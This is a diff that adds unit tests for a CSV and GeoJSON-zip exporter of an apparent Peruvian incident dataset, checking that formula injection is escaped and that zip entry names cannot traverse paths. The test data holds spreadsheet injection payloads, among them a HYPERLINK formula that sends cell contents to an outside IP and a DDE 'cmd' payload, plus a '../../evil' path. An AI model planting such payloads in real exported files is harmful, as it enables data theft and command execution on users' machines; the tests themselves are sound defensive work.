@@ -84,3 +84,32 @@ def test_filters(frame):
     assert set(dated["date"].str[:4]) == {"2017"}
     assert len(f(frame, query.Filter(text="helicopters"))) == 1
     assert len(f(frame, query.Filter(actors=["Shining Path"]))) == 2
+
+
+def test_csv_text_cells_cannot_be_formulas(frame):
+    part = frame[frame["location_id"] == "town:callao"].copy()
+    part["title"] = '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
+    part["evidence"] = "+1+cmd|' /C calc'!A0"
+    part["outlet"] = "@SUM(1+1)"
+    part["place"] = "\t=1+1"
+    part["substance"] = "\r=1"
+    part["actors"] = [["-2+3", "Shining Path"]]
+    part["reported_by"] = "Andina"
+    part["quantity_kg"] = -2.5  # a genuine (if odd) negative number in a numeric column stays a number
+    (row,) = list(csv.DictReader(io.StringIO(export.csv_bytes(part).decode(), newline="")))
+    assert row["title"] == "'" + '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
+    assert row["evidence"] == "'+1+cmd|' /C calc'!A0"
+    assert row["outlet"] == "'@SUM(1+1)"
+    assert row["place"] == "'\t=1+1" and row["substance"] == "'\r=1"
+    assert row["actors"] == "'-2+3; Shining Path"
+    assert row["reported_by"] == "Andina"  # ordinary text unchanged
+    assert row["quantity_kg"] == "-2.5" and float(row["lon"]) == pytest.approx(-77.147, abs=1e-3)
+    assert row["lon"].startswith("-") and row["lat"].startswith("-")  # Peru's coordinates stay numbers
+    assert row["killed"] == "" and row["date"] == part["date"].iloc[0]
+
+
+def test_zip_entry_names_are_plain_file_names(frame):
+    part = frame.iloc[:2].copy()
+    part["type"] = ["../../evil", "ambush"]
+    names = zipfile.ZipFile(io.BytesIO(export.geojson_zip_bytes(part))).namelist()
+    assert sorted(names) == ["______evil.geojson", "ambush.geojson"]
